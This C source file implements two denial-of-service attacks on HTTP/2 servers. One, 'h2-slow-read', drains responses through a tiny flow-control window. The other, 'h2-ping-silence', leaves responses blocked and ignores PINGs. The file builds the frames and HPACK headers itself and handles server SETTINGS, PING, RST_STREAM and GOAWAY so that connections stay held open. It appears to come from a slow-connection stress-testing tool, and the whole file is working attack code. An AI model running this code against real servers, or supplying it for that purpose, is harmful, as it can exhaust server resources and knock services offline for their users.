/*
 * slow_h2.c - attacks on an HTTP/2 server (RFC 9113): its answers are let through a few bytes at a
 * time, or its PINGs are never answered.
 *
 * The frames are few and always the same, so they are made here, with header fields that the
 * compression's static table has or that stand as literals (RFC 7541 6.1, 6.2.2).  Of what the
 * server sends only SETTINGS, PING, RST_STREAM and GOAWAY mean anything.
 */
#include <string.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/err.h"
#include "driver/slow.h"

enum { DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, UPDATE = 8 };
enum { ACK = 0x1, END_STREAM = 0x1, END_HEADERS = 0x4 };

#define HEAD 9 /* RFC 9113 4.1 */

static void put32(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)(v >> 24);
    p[1] = (unsigned char)(v >> 16);
    p[2] = (unsigned char)(v >> 8);
    p[3] = (unsigned char)v;
}

static uint32_t get32(const unsigned char *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void add_frame(struct buf *b, int type, int flags, uint32_t stream, const void *payload,
                      size_t len)
{
    unsigned char head[HEAD];

    put32(head, (uint32_t)len << 8 | (uint32_t)type);
    head[4] = (unsigned char)flags;
    put32(head + 5, stream);
    buf_add(b, head, sizeof(head));
    buf_add(b, payload, len);
}

/* A length of at least 127 goes on in bytes of 7 bits: RFC 7541 5.1. */
static void add_text(struct buf *b, const char *text)
{
    size_t len = strlen(text), rest = len - 127;

    if (len < 127) {
        buf_addc(b, (char)len);
    } else {
        buf_addc(b, 127);
        for (; rest >= 128; rest >>= 7)
            buf_addc(b, (char)(rest | 128));
        buf_addc(b, (char)rest);
    }
    buf_adds(b, text);
}

/* By their places in the static table, RFC 7541 A: 2 GET, 6 and 7 the schemes, 4 and 1 the names.
 */
static void add_fields(struct buf *b, const struct slow_job *j, const char *host)
{
    const struct target *t = j->opts->target;

    buf_addc(b, (char)(0x80 | 2));
    buf_addc(b, (char)(0x80 | (j->route.ctx ? 7 : 6)));
    buf_addc(b, 4);
    add_text(b, j->opts->path ? j->opts->path : t->path);
    buf_addc(b, 1);
    add_text(b, host);
}

/* The preface, SETTINGS with the window that streams begin with, and the requests. */
static bool prepare(struct slow_job *j, struct job *job, struct err *e)
{
    struct buf all = {0}, fields = {0};
    unsigned char settings[6] = {0, 4}; /* SETTINGS_INITIAL_WINDOW_SIZE */
    char *bytes;

    (void)e;
    put32(settings + 2, (uint32_t)j->opts->window);
    buf_adds(&all, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    add_frame(&all, SETTINGS, 0, 0, settings, sizeof(settings));
    add_fields(&fields, j, slow_host(j->opts->target, job->arena));
    for (int64_t i = 0; i < j->opts->requests; i++)
        add_frame(&all, HEADERS, END_STREAM | END_HEADERS, (uint32_t)(2 * i + 1), fields.data,
                  fields.len);
    bytes = arena_alloc(job->arena, all.len);
    memcpy(bytes, all.data, all.len);
    j->opening = bytes;
    j->opening_len = all.len;
    buf_free(&fields);
    buf_free(&all);
    return true;
}

/* Lets the server send `window` bytes more on every stream, and so much on the connection. */
static void follow(struct slow_conn *s)
{
    const struct slow_opts *o = s->lane->job->opts;
    unsigned char increment[4];
    struct buf b = {0};

    put32(increment, (uint32_t)o->window);
    for (int64_t i = 0; i < o->requests; i++)
        add_frame(&b, UPDATE, 0, (uint32_t)(2 * i + 1), increment, sizeof(increment));
    put32(increment, (uint32_t)(o->window * o->requests));
    add_frame(&b, UPDATE, 0, 0, increment, sizeof(increment));
    slow_say(s, b.data, b.len);
    buf_free(&b);
}

static void answer(struct slow_conn *s, int type, const unsigned char *payload, size_t len)
{
    struct buf b = {0};

    add_frame(&b, type, ACK, 0, payload, len);
    slow_say(s, b.data, b.len);
    buf_free(&b);
}

static void set_code(struct slow_h2 *h, const unsigned char *payload)
{
    uint32_t code = get32(payload);

    h->code = (uint8_t)((code < 14 ? code : 14) + 1);
}

static void handle(struct slow_conn *s)
{
    struct slow_h2 *h = &s->h2;
    const unsigned char *payload = h->frame + HEAD;
    bool ack = h->frame[4] & ACK, silent = s->lane->job->attack == &slow_h2_silence;

    switch (h->frame[3]) {
    case SETTINGS:
        if (!ack)
            answer(s, SETTINGS, NULL, 0);
        break;
    case PING:
        if (!ack && !silent && h->have == HEAD + 8)
            answer(s, PING, payload, 8);
        break;
    case GOAWAY:
        if (h->have == HEAD + 8)
            set_code(h, payload + 4);
        break;
    case RST_STREAM: /* without its streams a connection is no burden any more */
        if (h->have < HEAD + 4)
            break;
        set_code(h, payload);
        if (++h->reset >= s->lane->job->opts->requests)
            slow_ended(s, NULL);
        break;
    default:
        break;
    }
}

/* So many bytes of a frame are looked at: its head and, of some, what follows it. */
static size_t wanted(const struct slow_h2 *h)
{
    uint32_t len = get32(h->frame) >> 8;
    int type = h->frame[3];

    if (h->have < HEAD)
        return HEAD;
    if (type == PING || type == GOAWAY || type == RST_STREAM)
        return HEAD + (len < 8 ? len : 8);
    return HEAD;
}

static void received(struct slow_conn *s, const unsigned char *data, size_t len)
{
    struct slow_h2 *h = &s->h2;

    while (len > 0 && s->op) {
        size_t n;

        if (h->skip > 0) {
            n = h->skip < len ? h->skip : len;
            h->skip -= (uint32_t)n;
        } else {
            n = wanted(h) - h->have;
            n = n < len ? n : len;
            memcpy(h->frame + h->have, data, n);
            h->have += (uint8_t)n;
            if (h->have >= HEAD && h->have == wanted(h)) {
                h->skip = (get32(h->frame) >> 8) - (h->have - HEAD);
                handle(s);
                h->have = 0;
            }
        }
        data += n;
        len -= n;
    }
}

static void begin(struct slow_conn *s)
{
    slow_say(s, s->lane->job->opening, s->lane->job->opening_len);
}

const struct slow_attack slow_h2_read = {
    .name = "h2-slow-read",
    .brief = "HTTP/2 requests whose answers are let through a small window",
    .takes = TAKES_EVERY | TAKES_PATH | TAKES_WINDOW | TAKES_REQUESTS,
    .every = INT64_C(10000000000),
    .reads = true,
    .alpn = "h2",
    .prepare = prepare,
    .begin = begin,
    .follow = follow,
    .received = received,
};

const struct slow_attack slow_h2_silence = {
    .name = "h2-ping-silence",
    .brief = "HTTP/2 requests whose answers stay blocked; PINGs are not answered",
    .takes = TAKES_PATH | TAKES_WINDOW | TAKES_REQUESTS,
    .reads = true,
    .alpn = "h2",
    .prepare = prepare,
    .begin = begin,
    .received = received,
};
